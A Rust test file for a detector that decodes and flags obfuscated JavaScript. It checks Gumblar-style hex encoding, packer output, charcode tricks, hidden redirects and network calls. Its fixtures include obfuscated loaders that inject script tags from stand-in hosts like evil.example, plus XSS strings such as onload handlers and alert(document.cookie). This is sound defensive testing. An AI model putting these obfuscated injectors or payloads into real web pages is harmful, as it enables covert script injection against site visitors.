//! Tests of the script reader: what each sign fires on, what stays quiet, what comes out decoded.

use super::report;
use crate::model::ScriptSign::{self, *};
use crate::model::Sink;
use proptest::prelude::*;

fn signs(script: &str) -> Vec<ScriptSign> {
    report(script).signs.into_iter().map(|(sign, _)| sign).collect()
}

fn layers(script: &str) -> Vec<String> {
    report(script).layers.into_iter().map(|layer| layer.text).collect()
}

/// Every byte of a text behind `mark`.
fn hex(text: &str, mark: &str) -> String {
    text.bytes().map(|byte| format!("{mark}{byte:02x}")).collect()
}

const MARKUP: &str = "<script src=\"//evil.example/a.js\"></script>";

#[test]
fn gumblar_delimiter_hex() {
    let padded = format!("var zz=1;/* {} */document.write('{MARKUP}');", "x".repeat(120));
    let script = format!("(function(){{var t=\"{}\";eval(unescape(t.replace(/:/g,'%')));}})();", hex(&padded, ":"));
    assert!(signs(&script).contains(&DelimiterHex), "{:?}", signs(&script));
    assert!(layers(&script).iter().any(|text| text.contains(MARKUP)));
    assert!(report(&script).urls.contains(&"//evil.example/a.js".to_owned()));
    assert_eq!(report(&script).family.as_deref(), Some("Gumblar"));
}

#[test]
fn gnu_gpl_noise() {
    let noisy = |text: &str| text.chars().map(|c| format!("{c}!(#")).collect::<String>();
    let script = format!(
        "/*GNU GPL*/ try{{window.onload=function(){{var a=document.createElement('{}'.replace(/\\!|\\(|\\$|#|@/ig,''));\
         a.setAttribute('src','{}'.replace(/\\!|\\(|\\$|#|@/ig,''));document.body.appendChild(a);}}}}catch(e){{}}",
        noisy("script"),
        noisy("http://brand-com.brand.example.rogue.invalid:8080/brand.example/"),
    );
    assert!(signs(&script).contains(&NoiseReplace));
    let urls = report(&script).urls;
    assert!(urls.contains(&"http://brand-com.brand.example.rogue.invalid:8080/brand.example/".to_owned()), "{urls:?}");
}

#[test]
fn needless_percent() {
    let script = format!("document.write(unescape('{}'))", hex(MARKUP, "%"));
    assert_eq!(signs(&script), [PercentLetters, DecodedCode]);
    assert_eq!(layers(&script)[0], MARKUP);
    let split = hex(MARKUP, "%").replace("%73", "'+'%73");
    assert!(signs(&format!("document.write(unescape('{split}'))")).contains(&PercentLetters));
    assert_eq!(signs(&format!("var next = '/go?to={}';", hex("/somewhere/else/altogether/now/please", "%"))), []);
}

#[test]
fn classic_analytics_is_quiet_and_read() {
    let script = "var gaJsHost = ((\"https:\" == document.location.protocol) ? \"https://ssl.\" : \"http://www.\");\n\
        document.write(unescape(\"%3Cscript src='\" + gaJsHost + \"google-analytics.com/ga.js' \
        type='text/javascript'%3E%3C/script%3E\"));";
    assert_eq!(signs(script), []);
    assert_eq!(
        layers(script),
        ["<script src='https://ssl.google-analytics.com/ga.js' type='text/javascript'></script>"]
    );
}

#[test]
fn escapes_and_codes() {
    let escaped = format!("var a=[\"{}\"];document[a[0]](1)", hex("document.createElement('script');go.on()", "\\x"));
    assert!(signs(&escaped).contains(&EscapedLetters));
    let codes: Vec<String> = MARKUP.bytes().map(|b| b.to_string()).collect();
    let script = format!("eval(String.fromCharCode({}))", codes.join(","));
    assert_eq!(signs(&script), [CharCodes, DecodedCode]);
    assert_eq!(layers(&script)[0], MARKUP);
    let array = format!("var c=[{}];", codes.join(","));
    assert!(signs(&array).is_empty() || signs(&array) == [CharCodes]);
    let table: Vec<String> = (32..127).map(|n| n.to_string()).collect();
    assert_eq!(signs(&format!("var widths=[{}];x(String.fromCharCode(1))", table.join(","))), []);
}

#[test]
fn code_as_data() {
    let code = "window.location='//evil.example/';document.cookie='a';";
    let script = format!("var k='{}';(function(){{eval(k)}})()", hex(code, ""));
    assert!(signs(&script).contains(&CodeAsData));
    assert_eq!(layers(&script)[0], code);
    assert!(!signs("var id='3f2a77696e646f772e6c6f636174696f6e00ffee';eval(x)").contains(&CodeAsData));
}

#[test]
fn split_keywords() {
    assert_eq!(signs("document['wri'+'te'](x);document['createEl'+'ement']('i'+'frame')"), [SplitKeywords]);
    assert_eq!(signs("document.write('<scr'+'ipt src=\"/a.js\"></scr'+'ipt>')"), []);
    assert_eq!(signs("var a='http:'+'//www.example/'"), []);
}

#[test]
fn computed_calls_symbols_and_mappers() {
    assert_eq!(signs("var q='';[][q][q](a+b)();var s='sp'+'lit'"), [ComputedCall]);
    assert_eq!(signs(&format!("x={}", "[]+(![])+!+[]".repeat(14))), [SymbolRun]);
    let mapper = "for(i=0;i<s.length;i++){m+=String.fromCharCode(s.charCodeAt(i)-1)}document.write(m)";
    assert_eq!(signs(mapper), [CharMapper]);
    assert_eq!(signs("eval(a);String.fromCharCode(this.charCodeAt(this.length - 1) + 1)"), []);
}

#[test]
fn packer_is_undone() {
    let script = "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(a)};if(!''.replace(/^/,String)){\
        while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};\
        while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}\
        ('0.1(\"<2 3=\\'//4.5/6\\'></2>\")',10,7,\
        'document|write|script|src|evil|example|x'.split('|'),0,{}))";
    assert!(signs(script).contains(&Packed));
    assert_eq!(layers(script)[0], "document.write(\"<script src='//evil.example/x'></script>\")");
    assert!(report(script).sinks.contains(&Sink::Write));
}

#[test]
fn layers_of_layers() {
    let inner = format!("document.write(unescape('{}'))", hex(MARKUP, "%"));
    let outer = format!("eval(unescape('{}'))", hex(&inner, "%"));
    assert!(layers(&outer).iter().any(|text| text == MARKUP), "{:?}", layers(&outer));
    let mut deep = "1".to_owned();
    for _ in 0..12 {
        deep = format!("eval(unescape('{}'))", deep.replace('%', "%25").replace('\'', "%27"));
    }
    assert!(layers(&deep).len() <= 8);
}

#[test]
fn redirects_that_happen_by_themselves() {
    let of = |script: &str| report(script).redirects;
    assert_eq!(of("location='https://a.example/'"), ["https://a.example/"]);
    assert_eq!(of("(function(){top.location.href='//b.example/x'})()"), ["//b.example/x"]);
    assert_eq!(of("window.onload=function(){location.replace('/c')}"), ["/c"]);
    assert_eq!(of("function go(){location='/d'} setTimeout(go, 10)"), ["/d"]);
    assert_eq!(of("var u='https://e.'+'example/';window['location']['href']=u;"), ["https://e.example/"]);
    assert_eq!(of("location='https://f.example/?r='+document.referrer"), ["https://f.example/?r="]);
    assert_eq!(of("function go(){location='/never'}"), [""; 0]);
    assert_eq!(of("b.onclick=function(){location='/never'}"), [""; 0]);
    assert_eq!(of("if(location.href=='/x'){y()}"), [""; 0]);
}

#[test]
fn addresses() {
    let urls =
        report("a='//cdn.example/x.js';// https://comment.example/\nb=\"<img src='https://img.example/'>\";c='a//b'");
    assert_eq!(urls.urls, ["//cdn.example/x.js", "https://img.example/"]);
    assert_eq!(report("a='https://ssl.';b='http://www.'+c").urls, [""; 0]);
}

#[test]
fn looks_then_acts() {
    let script = "if(document.referrer.indexOf('search')>0){var s=document.createElement('script');\
        s.src='//evil.example/a.js';document.head.appendChild(s)}";
    assert_eq!(signs(script), [LooksThenActs]);
}

/// The shape of Cloudflare's inline loader, with what it loads.
fn challenge(ray: &str, time: &str, loads: &str) -> String {
    format!(
        "(function(){{var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={{r:'{ray}',t:'{time}'}};\
        var a=document.createElement('script');a.src='{loads}';\";b.appendChild(d)}})();"
    )
}

#[test]
fn challenge_parameters_are_left_out_and_nothing_else() {
    let of = |ray, time, loads| report(&challenge(ray, time, loads)).shape;
    let loads = "/cdn-cgi/challenge-platform/scripts/jsd/main.js";
    let known = of("8c1f2a3b4c5d6e7f", "MTcxNDUyMTYwMA==", loads);
    assert!(known.is_some());
    assert_eq!(known, of("0000000000000001", "MTcxNDUyMTYzMS4wMDAwMDA=", loads));
    assert_ne!(known, of("8c1f2a3b4c5d6e7f", "MTcxNDUyMTYwMA==", "//evil.example/main.js"));
    assert_ne!(known, of("8c1f2a3b4c5d6e7f", "x;location=1", loads));
    assert_ne!(known, of("8c1f2a3b4c5d6e7g", "MTcxNDUyMTYwMA==", loads));
}

fn same_shape(a: &str, b: &str) -> bool {
    let shape = report(a).shape;
    shape.is_some() && shape == report(b).shape
}

#[test]
fn shape_leaves_plain_data_out() {
    for (a, b) in [
        ("var csrf='9f86d081884c7d65';", "var csrf='60303ae22b998861';"),
        (
            "window.state={\"views\":1204,\"at\":\"2024-05-01T00:00:00Z\"}",
            "window.state={\"views\":9,\"at\":\"2025-01-11T10:00:00Z\"}",
        ),
        (
            "window.__CF$cv$params={r:'8c1f2a3b4c5d6e7f',t:'MTcxNDUyMTYwMA=='};",
            "window.__CF$cv$params={r:'8c1f2a3b4c5d0000',t:'MTcxNDUyMTYzMQ=='};",
        ),
        ("init({started:1714521600,took:1.25});", "init({started:1746057600,took:0.5});"),
        ("s({\"wpnonce\":\"1f2e3d4c5b\"});", "s({\"wpnonce\":\"9a8b7c6d5e\"});"),
        (
            "$(function(){$('#e'+'401e48b2-db18-45eb-b838-6f04fdc8bd72').attr('href','/a')})",
            "$(function(){$('#e'+'bdb03299-262b-4eea-80dc-f738cb6794fc').attr('href','/a')}) // later",
        ),
        ("f.action='/s';nonce='8c1950f3ed'", "f.action='/s'; nonce='74894c2af4'"),
        ("document.write(1)/* a */", "document.write( 1 )"),
        ("NREUM.info={\"queueTime\":0,\"applicationTime\":184}", "NREUM.info={\"queueTime\":12,\"applicationTime\":7}"),
    ] {
        assert!(same_shape(a, b), "{a}");
    }
}

#[test]
fn no_attack_fits_through_a_shape() {
    for (a, b) in [
        ("var host='cdn.example';", "var host='evil.example';"),
        ("var path='a1';", "var path='//evil.example/1';"),
        ("var mode='checkout';", "var mode='eval';"),
        ("var a=1;", "var a=1;alert(2);"),
        ("var t='<b>1</b>';", "var t='<i>1</i>';"),
        ("var ip='192.0.2.1';", "var ip='198.51.100.7';"),
        ("x[k]=1;", "x[k]=2;"),
        ("x['a1']();", "x['b2']();"),
        ("eval(String.fromCharCode(97,98));", "eval(String.fromCharCode(98,99));"),
        ("setTimeout('9f86d081884c7d65',1);", "setTimeout('60303ae22b998861',1);"),
        ("s.src='a1b2c3d4e5f6a7b8';", "s.src='b1b2c3d4e5f6a7b8';"),
        ("var a='11'+b;", "var a='22'+b;"),
        ("f.action='/s';nonce='8c1950f3ed'", "f.action='/t';nonce='8c1950f3ed'"),
        ("eval(x('8c1950f3ed'))", "eval(x('74894c2af4'))"),
        ("f.src=a;k='616c657274283129'", "f.src=a;k='616c657274283229'"),
        ("s.src='//a.example/8c1950f3ed'", "s.src='//a.example/74894c2af4'"),
        ("var i='8c1950f3ed';s.src='//a.example/'+i", "var i='74894c2af4';s.src='//a.example/'+i"),
        ("App.boot('ZG9jdW1lbnQud3JpdGUoMSkK');", "App.boot('YWxlcnQoZG9jdW1lbnQpOwo=');"),
        ("Widget.load('aHR0cHM6Ly9hLmV4YW1wbGUv');", "Widget.load('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv');"),
        ("var token='aHR0cHM6Ly9hLmV4YW1wbGUv';", "var token='aHR0cHM6Ly9ldmlsLmV4YW1wbGUv';"),
        ("Stripe('pk_live_51AbCdEf0123456789');", "Stripe('pk_live_51XyZwVu9876543210');"),
        ("var cfg={container:'GTM-ABC1234'};", "var cfg={container:'GTM-XYZ9876'};"),
        ("var give={bank:'0005',account:'1234567'};", "var give={bank:'0009',account:'7654321'};"),
        ("var give={account:1234567};", "var give={account:7654321};"),
        ("var give={btc:'bc1qar0srrr7xfkvy5l643'};", "var give={btc:'bc1qxy2kgdygjrsqtzq2n0'};"),
        ("var api={host:3232235777};", "var api={host:3221225985};"),
        ("load('app1');", "load('evil1');"),
        ("return\n1", "return 1"),
        ("/*@cc_on var a=1;@*/", "/*@cc_on var a=2;@*/"),
        ("atob('YWJjZDEy')", "atob('YWJjZDEz')"),
        ("\\u0065val('a1')", "\\u0065val('b2')"),
    ] {
        assert!(!same_shape(a, b), "{a}  {b}");
    }
}

#[test]
fn both_ends_of_a_long_script_are_read() {
    let long = format!("{}\n;location='https://evil.example/';", "var a=1;\n".repeat(400_000));
    let found = report(&long);
    assert_eq!(found.redirects, ["https://evil.example/"]);
    assert_eq!(found.cut.as_deref(), Some("bytes"));
    assert_eq!(found.shape, None);
}

#[test]
fn hostile_scripts_end() {
    for piece in
        ["[", "(", "{", "unescape(", "a+", "'a'+", "`${", "/[", "=/[", "x=x+", "\\", "'\\x6", "/*", "%3C", "eval("]
    {
        let _ = report(&piece.repeat(40_000));
    }
    let nested = format!("{}'x'{}", "unescape(".repeat(5000), ")".repeat(5000));
    let _ = report(&nested);
    let chain: String = (0..3000).map(|n| format!("var a{}=a{n}+a{n};", n + 1)).collect();
    let _ = report(&format!("var a0='xxxxxxxx';{chain}eval(a3000)"));
}

proptest! {
    #[test]
    fn any_text_gives_a_report(text in "\\PC{0,200}|[\\[\\](){}'\"`$/\\\\+x0-9a-f%:;.,=!]{0,200}") {
        let found = report(&text);
        prop_assert!(found.layers.len() <= 8);
        prop_assert_eq!(report(&text), found);
    }
}

#[test]
fn modules_and_members_of_the_window_reach_out() {
    let sinks = |script: &str| report(script).sinks;
    assert_eq!(sinks("import('https://evil.example/m.js')"), [Sink::Network]);
    assert_eq!(sinks("import 'https://evil.example/m.js';"), [Sink::Network]);
    assert_eq!(sinks("import a, {b} from \"https://evil.example/m.js\";"), [Sink::Network]);
    assert_eq!(sinks("window.fetch('https://evil.example/')"), [Sink::Network]);
    assert_eq!(sinks("new window.XMLHttpRequest()"), [Sink::Network]);
    assert_eq!(sinks("jQuery.getScript('https://evil.example/x.js')"), [Sink::Network]);
}

#[test]
fn code_behind_an_opened_comment_is_read() {
    let coded: String =
        "document.write('<iframe src=//evil.example/></iframe>')".bytes().map(|b| format!(":{b:02x}")).collect();
    let script = format!("<!-- (function(){{var a='{coded}';eval(unescape(a.replace(/:/g,'%')))}})(); -->");
    assert!(report(&script).layers.iter().any(|layer| layer.text.contains("evil.example")));
    assert!(report("<!-- hide from old browsers\nvar a = 1;\n//-->").layers.is_empty());
}

fn leaves(script: &str) -> Option<Vec<String>> {
    report(script).state.map(|state| state.leaves)
}

#[test]
fn what_a_state_holds_beside_plain_data_is_named() {
    let state = |data: &str| leaves(&format!("window.__STATE__={data};"));
    for plain in [
        "{news:[{title:'市民課の窓口からのお知らせ',at:'2026-04-01T09:00:00+09:00',n:12,path:'/news/2026/04/a.html'}],ok:!0}",
        "{\"uuid\":\"de65d57e-b84f-4e72-82be-4d9bee141cce\",\"tid\":\"d1b149857744397a0ad384f7ec8e5dfe\"}",
        "{id:144725080,slug:'category-note-imp',urls:['https://www.mhlw.go.jp/a/'],file:'/Doc?id=11604',css:'CssLink-5a533b119c014192b4e38418f169fa1e',body:'<p class=a>お知らせ<br>3 &lt; 4</p>',v:'3.2'}",
        "[null,undefined,true,-1,.5,1714521600000,,'words with spaces (and more)']",
    ] {
        assert_eq!(state(plain), Some(Vec::new()), "{plain}");
    }
    for (data, named) in [
        ("{a:'https://evil.example/x'}", "//evil.example"),
        ("{a:'see evil.com for more'}", "see evil.com for more"),
        ("{a:'https://evil.example/x.js'}", "https://evil.example/x.js"),
        ("{a:'<b onclick=x()>bold</b>'}", "<b onclick=x()>bold</b>"),
        ("{a:'<svg/onload=x()>'}", "<svg/onload=x()>"),
        ("{a:'<p><script>x'}", "<p><script>x"),
        ("{a:'<a href=\\x6aavascript:x>y</a>'}", "<a href=javascript:x>y</a>"),
        ("{a:'<a href=\"java&#115;cript:x\">y</a>'}", "<a href=\"java&#115;cript:x\">y</a>"),
        ("{a:'<p>a<img src=//evil.example/p.png>'}", "//evil.example"),
        ("{a:'<p'}", "<p"),
        ("{host:3232235777}", "3232235777"),
        ("{key:'ZG9jdW1lbnQud3JpdGU='}", "ZG9jdW1lbnQud3JpdGU="),
        ("{btc:'bc1qar0srrr7xfkvy5l643'}", "bc1qar0srrr7xfkvy5l643"),
        ("{gtm:'GTM-XYZ9876'}", "GTM-XYZ9876"),
        ("{code:'alert(document.cookie); and more'}", "alert(document.cookie); and more"),
        ("{hex:'616c6572742831293b'}", "616c6572742831293b"),
        ("{\"https://evil.example/a.js\":1}", "https://evil.example/a.js"),
        ("{to:'/go.php'}", "/go.php"),
        ("{to:'//evil.example/'}", "//evil.example"),
        ("{to:'\\x2f\\x2fevil.example/a.js'}", "//evil.example/a.js"),
    ] {
        assert_eq!(state(data), Some(vec![named.to_owned()]), "{data}");
    }
}

#[test]
fn a_state_is_data_and_nothing_else() {
    let framed =
        "window.__NUXT__=(function(a,b){return {layout:a,data:[{title:b}],error:null}}('default',\"お知らせ\"));";
    assert_eq!(leaves(framed), Some(Vec::new()));
    let filled = "window.__NUXT__=(function(a,b){a.id=1;a[0]='01';a.b=\"2021-05\";return {data:[a,b]}}({},Array(0)));";
    assert_eq!(leaves(filled), Some(Vec::new()));
    assert_eq!(leaves("jQuery.extend(Drupal.settings,{\"basePath\":\"\\/\",\"n\":1});"), Some(Vec::new()));
    for code in [
        "window.s={a:evil()};eval(s.a)",
        "eval({a:1})",
        "window.s={a:1};document.write(s.a)",
        "var a=1;",
        "window.s=(function(a){evil.load(a);return {a:a}}('x y'));location=s.a",
        "/*@cc_on window.s={a:1};@*/",
    ] {
        assert_eq!(leaves(code), None, "{code}");
    }
    let code = |script: &str| report(script).state.expect("a state").code;
    assert_eq!(code("window.s={a:1,b:[2]};"), code("window.s={b:'some words'};"));
    assert_eq!(code(filled), code(&filled.replace("a.id=1", "a.id=2;b[1]='some words'")));
    assert_ne!(code(filled), code(&filled.replace("a.id=1", "evil.id=1")));
    assert_ne!(code(filled), code(&filled.replace("a.id=1", "a.id=go()")));
    assert_ne!(code("window.s={a:1};"), code("window.s={a:1};steal({b:1});"));
    assert_eq!(leaves("window.s={a:f};"), None, "what is not data is code");
    let flood =
        format!("window.s={{a:[{}'<script src=//evil.example/e.js>']}};", "'https://a.example/x.js',".repeat(16_400));
    assert_eq!(leaves(&flood), None, "more than is noted could be anything");
    assert!(leaves(&format!("x={}1{}", "[".repeat(100_000), "]".repeat(100_000))).is_none_or(|all| all.is_empty()));
}

proptest! {
    #[test]
    fn what_holds_nothing_to_fold_is_left_as_it_is(
        lines in prop::collection::vec(prop::sample::select(vec![
            "var menu = document.querySelector('#menu');",
            "function toggle(event) { event.preventDefault(); menu.classList.toggle('open'); }",
            "menu.addEventListener('click', toggle);",
            "if (window.innerWidth > 768) { menu.hidden = false; } else { menu.hidden = true; }",
            "for (const item of items) { total += item.price * item.count; }",
            "items.sort((a, b) => a.name.localeCompare(b.name));",
            "const label = { ja: 'お知らせ', en: 'News' };",
            "let count = 0; count += 1;",
            "try { start(); } catch (error) { console.log(error.message); }",
        ]), 1..24),
    ) {
        let script = lines.join("\n");
        let found = report(&script);
        prop_assert!(found.layers.is_empty(), "{:?}", found.layers);
        prop_assert!(found.markup.is_empty() && found.elements.is_empty() && found.urls.is_empty());
        prop_assert!(found.actions.iter().all(|action| !action.decoded));
        prop_assert_eq!(found.digest, crate::model::Digest::of(&script));
    }
}
